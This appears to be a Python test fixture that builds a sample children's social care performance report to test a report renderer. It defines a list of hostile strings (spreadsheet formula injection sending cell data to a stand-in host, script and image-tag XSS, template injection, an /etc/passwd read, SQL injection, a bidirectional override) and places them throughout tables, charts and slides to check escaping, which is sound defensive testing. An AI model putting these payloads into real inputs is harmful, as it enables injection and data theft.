"""A small report made by hand, for testing renderers apart from everything else. It holds hostile text."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal

from fingerpost.report.model import (
    Bullet,
    Bullets,
    Cell,
    Chart,
    DataTable,
    Facts,
    Flow,
    FlowStep,
    Guide,
    KeyFigure,
    KeyFigures,
    Note,
    Paragraph,
    Report,
    ReportTable,
    Row,
    Section,
    Series,
    Signal,
    Slide,
    TableColumn,
)

HOSTILE = (
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "{=1+1}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{7*7}}",
    "{% load x %}",
    '#read("/etc/passwd")',
    "*bold* $x$ @ref",
    "`",
    "\\",
    '"]',
    "'; DROP TABLE children; --",
    "O'Brien-Ó Súilleabháin",
    "a\x0bb",
    "]]>",
    "\u202edlihc",
)


def number(value: int) -> Cell:
    return Cell(f"{value:,}", "number", value)


def percent(value: str) -> Cell:
    return Cell(f"{value}%", "percent", Decimal(value))


UP = Cell("↑ Improving", "direction", "up")
DOWN = Cell("↓ Worsening", "direction", "down")
FLAT = Cell("↔ Level", "direction", "flat")
MISSING = Cell("n/a", "missing")

MEASURES = ReportTable(
    id="processes",
    caption="Processes, Quarter 2 2013-14",
    summary="Number, denominator, percentage and direction of travel of 2 measures.",
    columns=(
        TableColumn("Measure", "measure", share=5),
        TableColumn("Number", "py_number", "number", "2012-13 whole year", 1.1),
        TableColumn("Out of", "py_denominator", "number", "2012-13 whole year", 1.1),
        TableColumn("%", "py_percent", "percent", "2012-13 whole year", 1.1),
        TableColumn("Number", "q2_number", "number", "Q2 2013-14", 1.1),
        TableColumn("Out of", "q2_denominator", "number", "Q2 2013-14", 1.1),
        TableColumn("%", "q2_percent", "percent", "Q2 2013-14", 1.1),
        TableColumn("Direction", "q2_direction", "direction", "Q2 2013-14", 1.8),
        TableColumn("Source", "source", share=2.2),
    ),
    rows=(
        Row(
            (
                Cell("Initial assessments within 10 working days", detail="Year to date", marks=("a",)),
                number(1082),
                number(2285),
                percent("47.4"),
                number(567),
                number(1288),
                percent("44.0"),
                UP,
                Cell("QEC"),
            )
        ),
        Row(
            (
                Cell("Cafcass care applications per 10,000 child population", detail="Annual"),
                Cell("24.8", "number", Decimal("24.8")),
                Cell(""),
                Cell(""),
                MISSING,
                Cell(""),
                Cell(""),
                Cell(""),
                Cell("Cafcass"),
            )
        ),
    ),
    notes=(Note("a", "Working days leave out weekends and England's bank holidays."),),
)

NAMES = ReportTable(
    id="hostile",
    caption="Names that try to break a document",
    columns=(TableColumn("Referred by", "referred_by", share=4), TableColumn("Total", "total", "number")),
    rows=(
        *(Row((Cell(name), number(i)), indent=i % 2 == 1) for i, name in enumerate(HOSTILE)),
        Row((Cell("Total"), number(190)), total=True),
    ),
    notes=(Note("a", "One case has <no> outcome & is in no column."),),
)

MONTHS = ("Apr 2013", "May 2013", "Jun 2013", "Jul 2013", "Aug 2013", "Sep 2013")
BARS = Chart(
    "residence",
    "Where children in care live, 30 September 2013",
    "bars",
    ("Foster care", "With parents", HOSTILE[6]),
    (Series("Children", (212, 41, 7)),),
    "children",
    "Most children in care live in foster care: 212 of 260.",
)
STACKED = Chart(
    "referrers",
    "Contacts by who made them and what became of them",
    "stacked",
    ("Police", "Courts", HOSTILE[16]),
    (Series("Closed and logged", (236, 158, 4)), Series("Assessment", (84, 10, 7)), Series(HOSTILE[7], (8, 1, None))),
    "contacts",
    "The police made the most contacts.",
    table="hostile",
)
COLUMNS = Chart(
    "budgets",
    "Budget and projected outturn",
    "columns",
    ("Fostering agencies", "Children's homes"),
    (Series("Budget", (Decimal("3.646"), Decimal("3.868"))), Series("Outturn", (Decimal("4.681"), Decimal("5.110")))),
    "£ million",
    "Both budgets are overspent.",
)
LINE = Chart(
    "reviews",
    "Re-referrals by month",
    "line",
    MONTHS,
    (
        Series(
            "Re-referrals", (Decimal("20.1"), Decimal("19.0"), None, Decimal("28.4"), Decimal("27.0"), Decimal("31.5"))
        ),
    ),
    "% of referrals",
    "Re-referrals have risen since July.",
    percent=True,
    guides=(
        Guide("Mean", "mean", (Decimal("24.0"),) * 6),
        Guide("Upper limit", "limit", (Decimal("30.0"),) * 6),
        Guide("Target", "target", (Decimal("22.0"),) * 6),
    ),
    signals=(Signal(5, "H", "higher than usual"),),
)
FLOW = Flow(
    "flow",
    "From contact to plan, quarter 2",
    (
        FlowStep("Contacts", 1642, "1,642", 0),
        FlowStep("Closed and logged", 999, "999", 1, 0),
        FlowStep("No further action", 53, "53", 1, 0),
        FlowStep("Assessment", 529, "529", 1, 0),
        FlowStep(HOSTILE[6], None, "[c]", 1, 0),
        FlowStep("Section 47 enquiries", 235, "235", 2),
        FlowStep("Plans started", 99, "99", 3),
    ),
    "Of 1,642 contacts 529 went on to an assessment.",
)

SAMPLE_FIGURES = KeyFigures(
    (KeyFigure("Contacts", "1,642", "1,642 in quarter 1", "flat", (560, 541, 523, 571), "Level."),)
)

SAMPLE = Report(
    title="Children's social care activity and performance",
    council="Example Borough Council & Partners",
    subject="Quarter 2 2013-14 (July to September 2013)",
    period="2013-14-Q2",
    edition="internal",
    edition_note="Internal: for officers. Not for publication.",
    made_at=datetime(2013, 11, 27, 10, 0),
    extract=date(2013, 9, 30),
    sections=(
        Section(
            "Appendix 1: summary",
            (
                Paragraph("This report is based on the data available on 30 September 2013."),
                KeyFigures(
                    (
                        KeyFigure(
                            "Contacts",
                            "1,642",
                            "1,642 in quarter 1",
                            "flat",
                            (560, 541, None, 548, 523, 571),
                            "Between 523 and 571 a month since April 2013.",
                        ),
                        KeyFigure("Re-referrals", "28.0%", "180 of 643; 20.0% in quarter 1", "down"),
                        KeyFigure("Children in care", "379", "380 in quarter 1", "flat"),
                        KeyFigure("Core assessments in time", "63.7%", "558 of 876", "up"),
                    )
                ),
            ),
        ),
        Section(
            "Inputs",
            (
                Bullets(
                    (
                        Bullet("1,642 in the quarter, level with quarter 1.", "Contacts", "flat"),
                        Bullet("No direction: more is neither good nor bad.", "CAF2s commenced", ""),
                        Bullet(HOSTILE[6] + " " + HOSTILE[10], HOSTILE[7], "down"),
                    )
                ),
                Paragraph("Draft: this sentence was made from the figures.", draft=True),
            ),
            level=2,
        ),
        Section(
            "Report to Cabinet",
            (
                Facts((("Report of", "Corporate Director"), (HOSTILE[6], HOSTILE[0]))),
                Paragraph("These pressures have continued.", number="14."),
                Bullets((Bullet("Note the pressures."), Bullet("Receive further reports.")), numbered=True),
                Bullets((Bullet("A draft sentence.", "Contacts", "up", draft=True),)),
            ),
        ),
        Section("Processes", (LINE, COLUMNS), level=2, new_page=True),
        Section("Outputs", (BARS, STACKED, FLOW), level=2),
        Section("Appendix 2: measures", (MEASURES,), landscape=True),
        Section("Table 1", (NAMES,)),
    ),
    about=(("Extract", "30 September 2013"), ("Made with", "Fingerpost 0.1.0")),
    lists=(
        DataTable(
            "contacts",
            ("case_id", "child_id", "started_on"),
            ((HOSTILE[0], "000123", date(2013, 7, 1)), ("C2", HOSTILE[6], None)),
            "Contacts: the records behind the figure",
        ),
    ),
    slides=(
        Slide("Demand is level", (SAMPLE_FIGURES,), "Say that contacts are level."),
        Slide("Where children live", (BARS,)),
        Slide("Re-referrals", (LINE, Paragraph("They have risen since July."))),
        Slide("Budgets", (COLUMNS,)),
        Slide("What moved", (Bullets((Bullet("Up 3.", "Contacts", "up"), Bullet(HOSTILE[6], HOSTILE[7]))),)),
        Slide("Flow", (FLOW, STACKED)),
    ),
    status="Draft",
    glossary=(("CAF", "Common Assessment Framework"), ("ICPC", "Initial child protection conference")),
)
